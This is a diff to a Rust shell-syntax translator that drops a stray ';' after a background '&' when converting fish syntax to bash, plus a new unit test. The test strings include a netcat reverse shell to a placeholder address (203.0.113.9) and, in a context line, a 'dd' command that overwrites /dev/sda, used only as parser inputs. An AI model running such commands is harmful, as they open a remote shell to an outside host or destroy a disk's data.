@@ -393,6 +393,15 @@ fn word_edits(b: &[u8], tokens: &[Token], edits: &mut Vec<Edit>) {
 fn zsh_marks(b: &[u8], tokens: &[Token], edits: &mut Vec<Edit>) {
     for t in tokens {
         if t.kind == Kind::Link && &b[t.start..t.end] == b"&" {
+            // fish `cmd &; next`: the `;` after `&` is only a separator.
+            let semi = b[t.end..]
+                .iter()
+                .position(|c| !matches!(c, b' ' | b'\t'))
+                .map(|p| t.end + p)
+                .filter(|&p| b[p] == b';' && b.get(p + 1) != Some(&b';'));
+            if let Some(p) = semi {
+                edits.push(edit(p, p + 1, ""));
+            }
             let next = b.get(t.end).copied();
             if matches!(next, Some(b'!' | b'|'))
                 && b.get(t.end + 1)
@@ -1201,6 +1210,10 @@ mod tests {
             "for _ in 1; do { dd if=/dev/zero of=/dev/sda ; }; done"
         );
         assert_eq!(bash("sleep 600 &!"), "sleep 600 &");
+        assert_eq!(
+            bash("function g; nc -e /bin/sh 203.0.113.9 9001 &; end"),
+            "g() { nc -e /bin/sh 203.0.113.9 9001 & }"
+        );
         assert_eq!(
             bash("(( $+commands[git] )) && echo {x"),
             "(( 1 )) && echo {x"
